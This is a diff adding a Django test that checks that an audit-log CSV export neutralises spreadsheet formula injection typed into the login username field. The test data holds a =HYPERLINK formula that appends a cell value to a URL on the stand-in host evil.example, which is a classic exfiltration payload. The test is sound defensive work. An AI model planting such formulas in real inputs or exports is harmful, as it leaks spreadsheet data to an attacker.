@@ -128,3 +128,14 @@ def test_the_audit_page_runs_a_constant_number_of_queries(published, logged_in, 
         journey_create(brand=published.step.journey.brand, slug=f"more-{index}", name=f"More {index}", acting_user=admin_user)
     with django_assert_num_queries(len(few_rows)):
         assert client.get(reverse("audit_log")).status_code == 200
+
+
+def test_the_csv_export_defuses_spreadsheet_formulas_typed_at_the_login_form(client, marketer, admin_user):
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"click")'
+    client.post(reverse("login"), {"username": formula, "password": "whatever-it-is"})
+    client.force_login(admin_user)
+    rows = _rows(client.get(reverse("audit_export", args=["csv"]), {"action": "user.login_failed"}))
+    assert rows[0]["object_id"] == "'" + formula[:64]
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())
+    lines = b"".join(client.get(reverse("audit_export", args=["jsonl"]), {"action": "user.login_failed"}).streaming_content).decode()
+    assert json.loads(lines.splitlines()[0])["changes"]["username"] == formula
